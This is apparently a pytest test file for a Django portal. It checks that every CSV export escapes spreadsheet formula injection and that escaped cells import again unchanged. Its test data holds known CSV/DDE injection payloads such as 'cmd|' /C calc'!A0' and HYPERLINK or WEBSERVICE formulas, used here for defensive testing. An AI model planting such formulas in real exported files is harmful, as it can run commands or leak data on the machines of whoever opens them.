"""S11: fifty texts that a spreadsheet would calculate, in every column of text, through every CSV that there is."""

import csv
import io
import json
from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.db import transaction
from django.test import Client, override_settings
from django.urls import reverse

from codes import loading
from feeds.changes.files import read_file
from feeds.history import commented
from feeds.models import CertificateRule, Feed, HourlyCount, Receipt, RefusalSample
from portal.models import ApiToken
from portal.text import escape_cell, unescape_cell
from tests.calls import Answer
from tests.hostile_site import values_of

pytestmark = pytest.mark.django_db

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
BODIES = (
    "1+1",
    "SUM(1+1)*cmd|' /C calc'!A0",
    'HYPERLINK("https://example.org?x="&A1,"click")',
    "cmd|'/c calc'!A1",
    'WEBSERVICE("https://example.org")',
    "=1",
    "2+3+cmd|' /C notepad'!'A1'",
)
#: Seven ways to begin with seven things to do, and one that begins again after a sign of our own.
FORMULAS = (*(start + body for start in STARTS for body in BODIES), "'=1+1")
OWN = """
[source]
slug = "formulas"
title = {title}
kind = "local API"
date = "2026-10-01"
url = ""
licence = {licence}
seed = ""
checksum = ""
rank = 50
summary = {title}

[[entry]]
registry = "http"
code = 409
owner = "ietf"
name = {title}
summary = {title}
rfcs = []
local_note = {title}
claims = []
"""


@pytest.fixture(scope="module")
def filled(
    django_db_setup: None, django_db_blocker: Any, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Client]:
    """Somebody who may see everything, in a portal where every text is a formula."""
    folder = tmp_path_factory.mktemp("data")
    sources = folder / "catalogue" / "sources"
    sources.mkdir(parents=True)
    title = json.dumps(FORMULAS[2])
    (sources / "own.toml").write_text(OWN.format(title=title, licence=json.dumps(FORMULAS[7])))
    with override_settings(DATA_DIR=folder), django_db_blocker.unblock(), transaction.atomic():
        loading.load()
        user = User.objects.create(username=FORMULAS[0], is_staff=True, is_superuser=True)
        for number, formula in enumerate(FORMULAS):
            fill(formula, number, user)
        client = Client()
        client.force_login(user)
        yield client
        transaction.set_rollback(True)


def fill(formula: str, number: int, user: User) -> None:
    def text(code: str) -> str:
        return formula

    now = datetime.now(UTC)
    feed = Feed(**values_of(Feed, text, labels=[formula]))
    feed._history_user = user  # type: ignore[attr-defined]
    with commented(formula):
        feed.save()
        feed.owner = f"{formula} later"
        feed.save()
    CertificateRule.objects.create(feed=feed, **values_of(CertificateRule, text))
    answer = {"http_status": 406, "stroom_status": 110}
    HourlyCount.objects.create(feed=formula, hour=now, outcome="refused", count=1, **answer)
    said = {"at": now, "headers": {formula: formula}, "trace": [formula], "feed": formula, **answer}
    RefusalSample.objects.create(**values_of(RefusalSample, text, **said))
    stored = {"received_at": now, "bytes": 1, "sha256": f"{number:064}", "path": f"{number}", "notes": [formula]}
    kept = {"receipt_id": f"{formula}{number}", "headers": {formula: formula}, "groups": [formula], **stored}
    Receipt.objects.create(**values_of(Receipt, text, **kept))
    ApiToken.objects.create(user=user, name=formula, prefix="sp_", digest=str(number))


EXPORTS = {
    "the admin's feeds": ("/admin/feeds/feed/export/csv/", {"name", "owner", "description"}),
    "feeds": ("/api/v1/feeds/?format=csv", {"name", "owner", "description"}),
    "history": ("/api/v1/feeds/%3D1%2B1/history/?format=csv", set()),
    "receipts": ("/api/v1/receipts/?format=csv", {"feed", "sender_dn"}),
    "rejections": ("/api/v1/rejections/?format=csv", {"feed"}),
    "tokens": ("/api/v1/tokens/?format=csv", {"name"}),
    "sources": ("/api/v1/sources/?format=csv", {"title"}),
    "codes": ("/api/v1/codes/?format=csv", set()),
    "disagreements": ("/api/v1/disagreements/?format=csv", set()),
    "vendors": ("/api/v1/vendors/?format=csv", set()),
    "headers": ("/api/v1/headers/?format=csv", set()),
    "the catalogue": ("/api/v1/codes/export.csv", set()),
}


def rows_of(answer: Answer) -> list[dict[str, str]]:
    assert answer.status_code == 200
    assert answer["Content-Type"].startswith("text/csv")
    content = b"".join(answer) if answer.streaming else answer.content
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True))


def test_there_are_fifty() -> None:
    assert len(set(FORMULAS)) == 50


@pytest.mark.parametrize("name", EXPORTS)
def test_s11_no_cell_of_any_export_is_a_formula(name: str, filled: Client) -> None:
    address, columns = EXPORTS[name]
    rows = rows_of(filled.get(address))
    cells = [cell for row in rows for cell in [*row, *row.values()]]
    assert [cell for cell in cells if cell.startswith((*STARTS, "\0"))] == []
    for column in columns:
        shown = {row[column] for row in rows}
        # Each of them is there, with the sign before it: nothing was left out, which would pass as well.
        lacking = [formula for formula in FORMULAS[:49] if not any(f"'{formula}" in cell for cell in shown)]
        assert lacking == ([] if name != "sources" else [f for f in FORMULAS[:49] if f != FORMULAS[2]])


def test_s11_what_was_exported_is_imported_as_it_was(filled: Client) -> None:
    answer = filled.get(reverse("admin:feeds_feed_export", args=["csv"]))
    content = b"".join(answer) if answer.streaming else answer.content
    file = read_file(content)
    assert not [row.faults for row in file.rows if row.faults]
    stored = {feed.name: feed for feed in Feed.objects.all()}
    assert len(file.rows) == len(stored) == 50
    for row in file.rows:
        feed = stored[row.name]
        assert {key: getattr(feed, key) for key in row.values} == dict(row.values)
        assert row.rules is not None
        assert [rule.comment for rule in row.rules] == [rule.comment for rule in feed.certificate_rules.all()]


@pytest.mark.parametrize("text", [*FORMULAS, "\0x", "plain", "'", "''", "'quoted'", "", "-", "−1", "1-1"])
def test_s11_the_sign_is_put_and_taken_away(text: str) -> None:
    told = escape_cell(text)
    assert not told.startswith((*STARTS, "\0"))
    assert unescape_cell(told) == text
